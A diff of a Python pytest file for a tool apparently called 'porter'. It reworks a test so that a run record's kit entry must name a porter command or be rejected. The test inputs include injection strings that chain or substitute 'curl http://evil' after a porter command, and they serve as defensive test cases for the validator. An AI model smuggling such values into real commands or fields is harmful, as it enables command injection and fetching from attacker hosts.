@@ -173,10 +173,12 @@ def test_commands_of_a_record_are_never_believed(here: Path, command: Porter) ->
 
 
 @pytest.mark.parametrize("text", [FORGED, "porter report out; curl http://evil", "porter report $(curl http://evil)"])
-def test_a_finding_names_a_command_of_porter_or_none(here: Path, text: str) -> None:
-    finding = {"suspect": "model", "rank": "located", "text": "a", "command": text}
-    edit(lambda record: record.update(diagnosis={"tolerance": None, "findings": [finding]}))
-    with pytest.raises(BadInput, match=r"no command line of porter|not a run record"):
+def test_a_kit_names_a_command_of_porter_or_none(here: Path, text: str) -> None:
+    words = dict.fromkeys(("runtime", "lacks", "sha256", "target", "precision"), "a")
+    names = {"path": "kit", "list": "kit/kit.json", "script": "run.sh", "take_back": text}
+    kit = {**words, **names, "batches": [1], "scored": [1], "images": 1, "size_bytes": 1}
+    edit(lambda record: record.update(kits=[kit]))
+    with pytest.raises(BadInput, match="no command line of porter"):
         read_record(here / "out")
 
 
